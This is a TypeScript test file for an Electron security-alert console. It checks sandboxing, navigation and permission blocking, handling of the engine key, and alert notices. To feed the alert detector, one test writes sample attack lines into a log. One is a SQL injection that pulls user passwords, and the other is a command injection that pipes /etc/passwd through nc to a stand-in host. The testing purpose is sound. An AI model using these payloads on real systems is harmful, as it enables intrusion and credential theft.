import { readdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import type { MessagePort } from 'node:worker_threads'
import { createORPCClient } from '@orpc/client'
import { RPCLink } from '@orpc/client/message-port'
import type { ContractRouterClient } from '@orpc/contract'
import { beforeAll, describe, expect, it, vi } from 'vitest'
import { z } from 'zod'
import type { Contract } from '../../contract/index.ts'
import { grounds, readLook } from '../../electron/look.ts'
import { createMenu } from '../../electron/menu.ts'
import { wordsFor } from '../../electron/words/index.ts'
import { accessLine, until } from '../engine/start-engine.ts'
import { app, asked, ipcMain, session } from './electron-stand-in.ts'

vi.mock('electron', () => import('./electron-stand-in.ts'))

const page = 'vedette://console/alerts/3'
let ports: MessagePort[] = []
/** A message of a page, and the ports it was answered with. */
function connectFrom(url: string, parent: object | null = null): MessagePort[] {
  ports = []
  const postMessage = (_name: string, _nothing: null, given: MessagePort[]) => ports.push(...given)
  ipcMain.emit('vedette:connect', { senderFrame: { url, parent, postMessage } })
  return ports
}
/** Whether the contents' listeners prevent what `name` announces. */
function isPrevented(name: string, ...args: unknown[]): boolean {
  let prevented = false
  const event = {
    preventDefault: () => {
      prevented = true
    },
  }
  asked.windows[0]?.webContents.emit(name, event, ...args)
  return prevented
}

beforeAll(async () => {
  await import('../../electron/main.ts')
  await until(() => asked.windows.length === 1, 'the window opens')
})

describe('the window', () => {
  it('is one, sandboxed, without Node, with the console over its own scheme', () => {
    const [window] = asked.windows
    expect(asked.isSandboxed).toBe(true)
    expect(window?.options.webPreferences).toMatchObject({
      sandbox: true,
      contextIsolation: true,
      nodeIntegration: false,
      nodeIntegrationInWorker: false,
      webviewTag: false,
      webSecurity: true,
      preload: expect.stringMatching(/preload\.cjs$/),
    })
    expect(window?.urls).toEqual(['vedette://console/'])
    expect(asked.schemes).toEqual([
      expect.objectContaining({ scheme: 'vedette', privileges: expect.objectContaining({ standard: true }) }),
    ])
    app.emit('second-instance')
    expect(asked.windows).toHaveLength(1)
  })
  it('goes nowhere else, opens no other and holds no webview', () => {
    expect(isPrevented('will-navigate', 'https://evil.example/')).toBe(true)
    expect(isPrevented('will-navigate', page)).toBe(false)
    expect(isPrevented('will-redirect')).toBe(true)
    expect(isPrevented('will-attach-webview')).toBe(true)
    const open = asked.handlers.get('open')
    const urls = ['https://attack.mitre.org/techniques/T1190/', 'https://evil.example/', 'file:///etc/passwd']
    for (const url of urls) expect(open?.({ url })).toEqual({ action: 'deny' })
    expect(asked.opened).toEqual(urls.slice(0, 1))
  })
  it('gets no permission, no device, no download and nothing from elsewhere', () => {
    const given: unknown[] = []
    const hear = (value: unknown) => void given.push(value)
    asked.handlers.get('permission')?.({}, 'geolocation', hear)
    given.push(asked.handlers.get('permission check')?.(), asked.handlers.get('device')?.())
    expect(given).toEqual([false, false, false])
    const request = asked.handlers.get('request')
    for (const url of ['https://tile.example/1.png', 'file:///etc/passwd', 'vedette://other/', page])
      request?.({ url }, hear)
    expect(given.slice(3)).toEqual([{ cancel: true }, { cancel: true }, { cancel: true }, { cancel: false }])
    let isDownloadPrevented = false
    session.defaultSession.emit('will-download', {
      preventDefault: () => {
        isDownloadPrevented = true
      },
    })
    expect(isDownloadPrevented).toBe(true)
  })
})

describe('the look', () => {
  const tell = (look: unknown, url = page) =>
    ipcMain.emit('vedette:look', { senderFrame: { url, parent: null } }, look)
  const ground = () => asked.windows[0]?.options.backgroundColor

  it('is dark at first, and speaks the system’s language', () => {
    expect(ground()).toBe(grounds.dark)
    expect(asked.menu).toEqual(expect.arrayContaining(['Datei', 'Fenster schließen', 'Kopieren', 'Ansicht']))
    expect(asked.tray).toEqual(['Vedette öffnen', 'Beenden'])
  })
  it('follows what the console tells, and nobody else', () => {
    tell({ scheme: 'light', language: 'fr-CA' }, 'https://evil.example/')
    tell({ scheme: 'pink', language: 'fr' })
    expect([ground(), asked.tray[1]]).toEqual([grounds.dark, 'Beenden'])
    tell({ scheme: 'light', language: 'fr-CA' })
    expect([ground(), asked.tray[1]]).toEqual([grounds.light, 'Quitter'])
    expect(asked.menu).toContain('Fermer la fenêtre')
    expect(readLook(join(app.getPath('userData'), 'look.json'))).toEqual({
      scheme: 'light',
      language: 'fr-CA',
    })
  })
  it('of a window that is not drawn yet is the console’s ground in that theme', () => {
    const tokens = readFileSync('renderer/app/tokens.css', 'utf8')
    const themes = [...tokens.matchAll(/scheme="(dark|light)"\] \{[^}]*?--ground: (#\w+);/g)]
    expect(Object.fromEntries(themes.map(([, theme, color]) => [theme, color]))).toEqual(grounds)
  })
  it.each(['darwin', 'linux', 'win32'] as const)(
    'leaves no item of the menu on %s to English',
    (platform) => {
      for (const language of ['de', 'fr', 'es'])
        expect(createMenu(wordsFor([language]), platform)).not.toEqual(createMenu(wordsFor(['en']), platform))
      const texts = JSON.stringify(createMenu(wordsFor(['de']), platform))
      const items: unknown[] = JSON.parse(texts)
      const silent = JSON.stringify(items).match(/\{"role":"(?!appMenu)\w+"\}/g)
      expect(silent).toBeNull()
    },
  )
})

describe('the engine', () => {
  it('is told its key by message: neither its arguments nor the disk show it', () => {
    const said = JSON.stringify(asked.forks[0]?.args)
    expect(said).toContain('engine-process.mjs')
    const key = readFileSync(join(app.getPath('userData'), 'key.bin'), 'utf8')
      .split('')
      .reverse()
      .join('')
    expect(key).toMatch(/^[\w-]{43}=$/)
    expect(said).not.toContain(key)
    const files = readdirSync(app.getPath('userData'), { recursive: true, withFileTypes: true })
    for (const file of files.filter((entry) => entry.isFile()))
      expect(readFileSync(join(file.parentPath, file.name)).includes(key), file.name).toBe(false)
  })
  it('is given to the top frame of the console alone', () => {
    expect(connectFrom('https://evil.example/')).toEqual([])
    expect(connectFrom('vedette://console.evil/')).toEqual([])
    expect(connectFrom(page, { url: page })).toEqual([])
    const [port] = connectFrom(page)
    expect(port).toBeDefined()
    port?.close()
  })
  it('answers the console over its port, and a critical alert makes one notice', async () => {
    const [port] = connectFrom(page)
    if (!port) throw new Error('There is no port.')
    port.start()
    const client: ContractRouterClient<Contract> = createORPCClient(new RPCLink({ port }))
    const log = join(app.getPath('userData'), 'access.log')
    const attack = accessLine('/?id=1%20UNION%20SELECT%20user,password%20FROM%20users--%20')
    writeFileSync(log, `${attack}\n${accessLine('/?c=;cat%20/etc/passwd|nc%20evil.example%204444')}\n`)
    await client.sources.add({ path: log, kind: 'plain', from: 'beginning' })
    await until(() => asked.notices.length > 0, 'the notice is shown')
    expect(asked.notices).toEqual([
      { title: expect.stringContaining('81.2.69.142'), body: expect.any(String) },
    ])
    expect(JSON.stringify(asked.notices)).not.toContain('UNION SELECT')
    port.close()
  })
})

describe('leaving', () => {
  it('a closed window hides and its place is kept; the engine goes on', () => {
    const [window] = asked.windows
    let isKept = false
    window?.emit('close', {
      preventDefault: () => {
        isKept = true
      },
    })
    expect([isKept, window?.isVisible]).toEqual([true, false])
    const state = z.object({ width: z.number() })
    expect(
      state.parse(JSON.parse(readFileSync(join(app.getPath('userData'), 'window.json'), 'utf8'))).width,
    ).toBe(1300)
    app.emit('second-instance')
    expect(window?.isVisible).toBe(true)
  })
  it('quitting, even asked for twice, waits until the engine has closed its files', async () => {
    app.quit()
    app.quit()
    await new Promise(setImmediate)
    expect(asked.quits).toBe(0)
    await until(() => asked.quits > 0, 'the app quits')
    expect(
      readdirSync(join(app.getPath('userData'), 'data')).filter((name) => name.endsWith('-wal')),
    ).toEqual([])
    expect(asked.errors).toEqual([])
  })
})
